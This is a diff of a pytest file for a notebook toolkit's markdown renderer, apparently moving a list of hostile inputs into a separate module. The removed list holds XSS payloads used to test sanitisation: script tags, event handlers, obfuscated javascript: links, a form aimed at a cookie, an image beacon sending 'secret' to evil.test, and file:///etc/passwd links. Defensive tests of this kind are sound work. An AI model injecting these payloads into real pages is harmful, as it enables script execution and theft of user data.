@@ -7,6 +7,7 @@ from html.parser import HTMLParser
 from itertools import count
 
 import pytest
+from hostile import HOSTILE
 
 from nbkit.rendering.highlight import highlight
 from nbkit.rendering.markdown import render, render_static, to_text
@@ -71,43 +72,6 @@ def safe(markup: str) -> Seen:
 
 def links(markup: str) -> list[str]:
     return [attributes["href"] for tag, attributes in safe(markup).tags if tag == "a"]
-
-
-HOSTILE = [
-    "<img src=x onerror=alert(1)>",
-    "<script>alert(1)</script>",
-    "a <svg onload=alert(1)><style>*{display:none}</style>",
-    "<a href='javascript:alert(1)' ping=x>x</a>",
-    "<button data-commandlinker-command=terminal:create-new>run</button>",
-    "<form action=//evil><input name=cookie autofocus onfocus=alert(1)></form>",
-    "<!-- comment --> <?php x ?> <![CDATA[x]]> <!DOCTYPE html>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java&#115;cript:alert(1)) [x](&#106;avascript&colon;alert(1))",
-    "[x](<java\tscript:alert(1)>) [x](java&Tab;script:alert(1)) [x](java&NewLine;script:alert(1))",
-    "[x](\x01javascript:alert(1)) [x]( javascript:alert(1))",
-    "[x][y]\n\n[y]: javascript:alert(1)",
-    "[x][y]\n\n[y]: <vbscript:x> 'title'",
-    "<javascript:alert(1)> <data:text/html,x>",
-    "[x](data:text/html;base64,PHNjcmlwdD4=) ![x](data:image/svg+xml,<svg/onload=alert(1)>)",
-    "[x](//evil.test/a) [x](/etc) [x](#id) [x](\\\\evil.test) [x](https:evil.test) [x](http:///evil) [x](file:///etc/passwd)",
-    "[x](http://[::1) [x](https://)",
-    '[x](https://ok.test "a\\" onmouseover=\\"alert(1)")',
-    '[x](https://ok.test/"onmouseover="alert(1)) <https://ok.test/"onclick="x">',
-    '```"><script>alert(1)</script>\n<b>\n```',
-    "```python' onclick='x\n'<img src=x>'\n```",
-    "| <img src=x onerror=1> | b |\n|:-:|---|\n| <script> | `<b>` |",
-    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
-    "![x](https://evil.test/?q=secret) ![<script>](https://evil.test)",
-    "[![x](https://evil.test/a.png)](https://evil.test)",
-    r"$\href{javascript:alert(1)}{x}$ $\style{position:fixed}{x}$ $\class{jp-Button}{x}$",
-    r"$\text{<img src=x onerror=alert(1)>}$ $\text{</math><script>alert(1)</script>}$ $x<script>y$",
-    r"$\text{&lt;img src=x onerror=alert(1)&gt;}$ $\unicode{x202E}$ $\text{&#x202E;}$",
-    r"$\color{red}{x} \colorbox{red}{y} \hspace{9999em} \rule{99em}{9999em}$",
-    "$<mglyph><style><img src=x onerror=alert(1)>$",
-    "\x1b]8;;https://evil.test\x07link\x1b]8;;\x07 \u202egnp.exe \U000e0041\U000e0042 \u200b \ud800",
-    "&#x202E; &#x1b;[31m &#xE0041; &#13; &#0;",
-]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
